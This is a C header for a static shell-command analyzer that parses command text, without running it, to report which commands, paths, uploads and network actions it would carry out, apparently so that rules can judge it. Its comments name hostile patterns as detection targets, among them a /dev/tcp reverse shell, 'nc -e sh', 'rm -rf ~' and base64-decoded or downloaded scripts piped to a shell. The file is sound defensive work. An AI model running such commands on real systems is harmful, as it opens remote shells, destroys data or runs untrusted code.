/*
 * Shell command analysis: what a POSIX sh / bash command text *executes*.
 *
 * A hand-written tokenizer and parser (nothing is expanded or run) finds
 * every simple command in the text - across lists, pipelines, subshells,
 * groups, compound commands, command and process substitutions, and the
 * strings that other commands run as scripts (`bash -c`, `eval`, `su -c`,
 * `watch`, here-docs fed to a shell, `find -exec`) - strips wrappers
 * (`sudo`, `env`, `timeout 5`, `xargs`, ...) and leading assignments, and
 * reports each command's name, quote-removed argv and redirections, plus
 * summary values a rule can use directly. Anything that cannot be judged
 * statically is reported as dynamic; malformed input as a parse error; and
 * input past a limit as a limit - never as "nothing found".
 *
 * Everything is allocated in the caller's arena and every string is
 * NUL-terminated, so values can be handed to rules without copying. The
 * analysis is pure: no globals, no filesystem, no clock; any number of
 * threads may analyse at once with their own arenas. Work is linear in the
 * input (see the limits below).
 *
 * Details and the proposed rule fields: docs/shell-analysis.md.
 */
#ifndef PE_SHELL_SHELL_H
#define PE_SHELL_SHELL_H

#include <stddef.h>

#include "util/pstr.h"
#include "util/arena.h"

/* Limits. Reaching one stops the analysis and sets PE_SHELL_LIMIT (which
 * implies PE_SHELL_DYNAMIC): what was found so far is still reported. */
#define PE_SHELL_MAX_INPUT    (1u << 20) /* bytes analysed; the rest is a limit */
#define PE_SHELL_MAX_DEPTH    12u        /* substitution / nested-script levels */
#define PE_SHELL_MAX_NEST     48u        /* syntactic nesting (parser recursion) */
#define PE_SHELL_MAX_COMMANDS 4096u      /* simple commands recorded */
#define PE_SHELL_MAX_WORDS    65536u     /* words and redirections, all commands together */
/* Work budget, in bytes scanned (re-scans of nested scripts included). */
#define PE_SHELL_WORK(len) (65536u + 24u * (size_t)(len))
/* Memory budget, in arena bytes taken while analysing (the result's
 * summaries come on top, in proportion to what was recorded). */
#define PE_SHELL_MEMORY(len) (((size_t)4 << 20) + 8u * (size_t)(len))

/* Word flags (pe_shell_cmd.argf, pe_shell_redir.flags): what the word, as
 * written, contains. Expansions are kept as written in the word's text. */
enum {
    PE_SHELL_W_QUOTED = 1u << 0,  /* some part was quoted or escaped */
    PE_SHELL_W_PARAM = 1u << 1,   /* $x, ${x...}, $1, $@ ... */
    PE_SHELL_W_CMDSUB = 1u << 2,  /* $(...) or `...` */
    PE_SHELL_W_ARITH = 1u << 3,   /* $((...)) or $[...] */
    PE_SHELL_W_PROCSUB = 1u << 4, /* <(...) or >(...) */
    PE_SHELL_W_GLOB = 1u << 5,    /* unquoted * ? or [...] */
    PE_SHELL_W_BRACE = 1u << 6,   /* unquoted {a,b} or {1..3} */
    PE_SHELL_W_TILDE = 1u << 7,   /* unquoted leading ~ */
    PE_SHELL_W_ANSI_C = 1u << 8,  /* $'...' (decoded in the text) */
    PE_SHELL_W_ASSIGN = 1u << 9,  /* NAME=value or NAME+=value */
};
/* Word flags that make a word's value unknowable without running it. */
#define PE_SHELL_W_EXPANDS                                                                         \
    (PE_SHELL_W_PARAM | PE_SHELL_W_CMDSUB | PE_SHELL_W_ARITH | PE_SHELL_W_PROCSUB)
/* ... and, in command position, also globs and braces. */
#define PE_SHELL_W_UNKNOWN_NAME (PE_SHELL_W_EXPANDS | PE_SHELL_W_GLOB | PE_SHELL_W_BRACE)

/* Where a simple command was found. */
typedef enum pe_shell_origin {
    PE_SHELL_TOP,      /* the command text itself (also subshells, groups, bodies) */
    PE_SHELL_CMDSUB,   /* $(...), `...`, or expanded in an unquoted here-doc */
    PE_SHELL_PROCSUB,  /* <(...) or >(...) */
    PE_SHELL_STRING,   /* a string run as a script: sh -c, eval, su -c, watch, env -S,
                          git -c core.sshCommand=..., sed's e command, vim -c '!...' */
    PE_SHELL_HEREDOC,  /* a here-doc or here-string run by a shell */
    PE_SHELL_EXEC,     /* find -exec / -execdir / -ok / -okdir, xargs and parallel
                          with arguments known from their input */
    PE_SHELL_EXPANDED, /* a command whose words were variables of known value:
                          W='rm -rf ~'; $W */
    PE_SHELL_INLINE,   /* run by interpreter code: python -c 'os.system("...")' */
    PE_SHELL_DECODED,  /* a decoded payload run by a shell: echo ... | base64 -d | sh */
    PE_SHELL_FILE,     /* a script the same command line wrote and then runs */
    PE_SHELL_REMOTE    /* run on another host or in a container: ssh host cmd,
                          docker exec c cmd, kubectl exec p -- cmd */
} pe_shell_origin;

/* Redirection flags (in addition to the target's word flags). */
enum {
    PE_SHELL_R_WRITE = 1u << 16, /* the target file is written (>, >>, >|, &>, &>>, <>) */
    PE_SHELL_R_FILE = 1u << 17,  /* the target is a file (not an fd, a here-doc or -string) */
};

typedef struct pe_shell_redir {
    pe_str op;      /* ">", ">>", ">|", "<", "<>", "<<", "<<-", "<<<", ">&", "<&", "&>", "&>>" */
    int fd;         /* the fd as written (2 in 2>), -1 when defaulted, -2 for {name} */
    pe_str target;  /* quote-removed word; the delimiter of a here-doc */
    pe_str body;    /* here-doc body (tabs stripped for <<-), else "" */
    unsigned flags; /* the target's word flags and PE_SHELL_R_* */
    unsigned body_flags; /* word flags of the expansions in an unquoted here-doc body */
} pe_shell_redir;

/* Command flags. */
enum {
    PE_SHELL_C_DYNAMIC = 1u << 0,     /* name, a flag, a wrapper option or the code run cannot
                                         be judged statically */
    PE_SHELL_C_STDIN_PIPE = 1u << 1,  /* stdin is a pipe (or a >(...) reader) */
    PE_SHELL_C_RUNS_OUTPUT = 1u << 2, /* an interpreter whose program is another command's
                                         output: x | sh, sh <(x), sh -c "$(x)", eval "$(x)" */
    PE_SHELL_C_INTERPRETER = 1u << 3, /* a shell or language interpreter (sh, python, ...) */
    PE_SHELL_C_CODE = 1u << 4,        /* runs code given in its arguments or a here-doc */
    PE_SHELL_C_RESOLVED = 1u << 5,    /* its words were rebuilt from known values into
                                         another command (origin EXPANDED), which is what
                                         runs: this one is not reported on its own */
    PE_SHELL_C_DOWNLOADED = 1u << 6   /* runs a file the command line downloaded */
};

/* Roles of a path a command uses (pe_shell_path.role). */
enum {
    PE_SHELL_P_READ = 1u << 0,   /* its content is read (cat, cp's sources, < file) */
    PE_SHELL_P_WRITE = 1u << 1,  /* written or changed (> file, tee, cp's target, chmod) */
    PE_SHELL_P_DELETE = 1u << 2, /* deleted (rm, rmdir, shred, find -delete, mv's sources) */
    PE_SHELL_P_EXEC = 1u << 3,   /* run as a program or script (bash f, ./f, source f) */
    PE_SHELL_P_UPLOAD = 1u << 4, /* sent over the network (curl -T f, -d @f, scp f host:) */
    PE_SHELL_P_LIST = 1u << 5    /* only its name or metadata is read (ls, stat, find) */
};
/* Path flags. */
enum {
    PE_SHELL_P_UNKNOWN = 1u << 0, /* holds an expansion whose value is not known */
    PE_SHELL_P_GLOB = 1u << 1     /* holds an unquoted glob: names more than one file */
};

/* A path a command line uses, as far as it is known without running it:
 * ~, $HOME and variables assigned earlier in the command line replaced.
 * Paths of commands run on another host or in a container are not listed. */
typedef struct pe_shell_path {
    pe_str path;
    pe_str cwd;     /* the directory a relative path is relative to, as cd left it: ""
                       for the command's own directory, else absolute or relative to it */
    unsigned role;  /* PE_SHELL_P_READ ... */
    unsigned flags; /* PE_SHELL_P_UNKNOWN ...; a cwd that is not known is UNKNOWN */
} pe_shell_path;

typedef struct pe_shell_cmd {
    pe_str name;          /* command word after wrappers, quotes removed; "" when none
                             (assignments or redirections only) */
    pe_str base;          /* basename of name: /usr/bin/curl -> curl (a name that is
                             not static, e.g. $X/sh, is not split) */
    const pe_str *argv;   /* the executed argv: argv[0] is name (argc 0 when none) */
    const unsigned *argf; /* word flags of each argv word */
    size_t argc;
    size_t subidx;       /* argv index of the subcommand (git -C r reset: 3), 0 when none */
    size_t nsub;         /* words of the subcommand path ("stash drop": 2) */
    const pe_str *words; /* every word as written (assignments and wrappers too) */
    const unsigned *wordf;
    size_t nwords;
    const pe_str *wrappers; /* basenames of the stripped wrappers, outermost first */
    size_t nwrappers;
    const pe_shell_redir *redirs;
    size_t nredirs;
    unsigned flags; /* PE_SHELL_C_* */
    unsigned depth; /* 0 at top level; +1 per substitution or nested script */
    pe_shell_origin origin;
} pe_shell_cmd;

/* Result flags. */
enum {
    PE_SHELL_DYNAMIC = 1u << 0,        /* some command is PE_SHELL_C_DYNAMIC, or a limit */
    PE_SHELL_PIPE_TO_INTERP = 1u << 1, /* some command is PE_SHELL_C_RUNS_OUTPUT */
    PE_SHELL_PARSE_ERROR = 1u << 2,    /* malformed: unterminated quote, here-doc, ... */
    PE_SHELL_LIMIT = 1u << 3,          /* a limit was reached (LIMIT_* below) */
    PE_SHELL_LIMIT_DEPTH = 1u << 4,
    PE_SHELL_LIMIT_COUNT = 1u << 5,   /* commands or words */
    PE_SHELL_LIMIT_WORK = 1u << 6,    /* work budget or input size */
    PE_SHELL_CR = 1u << 7,            /* a CR or NUL byte outside quotes (also a parse error) */
    PE_SHELL_LIMIT_MEMORY = 1u << 8,  /* memory budget */
    PE_SHELL_REVERSE_SHELL = 1u << 9, /* a shell's input and output go to a network peer:
                                         bash -i >& /dev/tcp/h/p 0>&1, nc -e sh, socat exec: */
    PE_SHELL_LISTEN = 1u << 10,       /* something listens for connections: nc -l, ssh -R */
    PE_SHELL_UPLOAD = 1u << 11,       /* files or command output are sent to a host */
    PE_SHELL_DNS_EXFIL = 1u << 12,    /* a DNS lookup of a name holding a substitution */
    PE_SHELL_ELSEWHERE = 1u << 13,    /* commands run on another host or in a container */
    PE_SHELL_DECODES = 1u << 14,      /* an encoded payload is decoded into an interpreter */
    PE_SHELL_RUNS_DOWNLOAD = 1u << 15 /* a downloaded file is run (curl -o x.sh ..; sh x.sh) */
};

typedef struct pe_shell_result {
    const pe_shell_cmd *cmds; /* in the order found; substitutions before their command */
    size_t ncmds;
    unsigned flags;    /* PE_SHELL_* */
    const char *error; /* the first parse error (static text), or NULL */

    /* Summaries (lists without duplicates, in order of first appearance). */
    const pe_str *commands; /* base of every command with a name */
    size_t ncommands;
    const pe_str *wrappers; /* every stripped wrapper */
    size_t nwrappers;
    const pe_str *targets; /* every file redirection target */
    size_t ntargets;
    const pe_str *writes; /* targets of writing redirections */
    size_t nwrites;
    /* Facts from the command knowledge (knowledge.c): every path used, in
     * order, with its role (duplicates merged, roles joined); subcommands
     * ("git reset", "docker run"); URLs and hosts (normalised, lib/util/host.h);
     * variables given to commands or exported ("GIT_SSH_COMMAND=ssh -i k");
     * languages of inline interpreter code ("python"); decoded payloads
     * that reach an interpreter. */
    const pe_shell_path *paths;
    size_t npaths;
    const pe_str *subcommands;
    size_t nsubcommands;
    const pe_str *urls;
    size_t nurls;
    const pe_str *hosts;
    size_t nhosts;
    const pe_str *env;
    size_t nenv;
    const pe_str *languages;
    size_t nlanguages;
    const pe_str *decoded;
    size_t ndecoded;
    /* One line per command with a name or redirections: the executed argv
     * joined by single spaces, then "op target" per redirection. Inside a
     * word, backslash, space, tab, CR and newline are written \\ \  \t \r \n
     * so words never split; an empty word is written ''. */
    pe_str text;
} pe_shell_result;

/*
 * Analyses cmd (len bytes; need not be NUL-terminated). *out receives the
 * result, allocated in arena like everything it points to (freed with the
 * arena). Returns PREMPTI_OK - malformed input and limits are reported in
 * the result, not as errors - PREMPTI_E_NOMEM, or PREMPTI_E_INVALID_ARG.
 */
int pe_shell_analyze(pe_shell_result **out, const char *cmd, size_t len, pe_arena *arena);

/* What the analysis may assume about where the command runs. */
typedef struct pe_shell_env {
    const char *home; /* for ~ and $HOME; NULL or "" when unknown */
} pe_shell_env;

/* pe_shell_analyze() with what is known of the environment (env may be
 * NULL: nothing). */
int pe_shell_analyze_env(pe_shell_result **out, const char *cmd, size_t len,
                         const pe_shell_env *env, pe_arena *arena);

/*
 * The normalised flags of every run of the command whose base is name
 * (len bytes), runs as shell.commands counts them (a command rebuilt
 * from known values into another is that other one):
 * each flag word as written (up to '='), each letter of a single-dash
 * cluster as -x, and the known equivalent spellings (rm --recursive adds
 * -r and -R). Words after "--" are not flags. *items receives an array in
 * arena (possibly empty). Returns 0 or PREMPTI_E_NOMEM.
 */
int pe_shell_flags(const pe_shell_result *r, const char *name, size_t len, pe_arena *arena,
                   const pe_str **items, size_t *nitems);

/*
 * Whether one command invocation (one simple command, nested ones
 * included; one rebuilt into another is that other one, as in
 * shell.commands) matches spec: a command base then flags, separated by spaces
 * or commas, e.g. "rm -r -f" or "rm,-r,-f". A one-letter flag is present
 * in any spelling (-rf, -fr, -r -f, and the known long equivalents such as
 * --recursive --force); a longer flag ("-delete", "--force") must be
 * written as such, or be a known equivalent. "-r|-a" accepts either. A
 * spec of a name alone matches any invocation. Returns 1 or 0 (also for
 * an empty spec or a NULL result).
 */
int pe_shell_invokes(const pe_shell_result *r, const char *spec, size_t len);

/* Whether base (len bytes) names a shell or language interpreter. */
int pe_shell_is_interpreter(const char *base, size_t len);

#endif
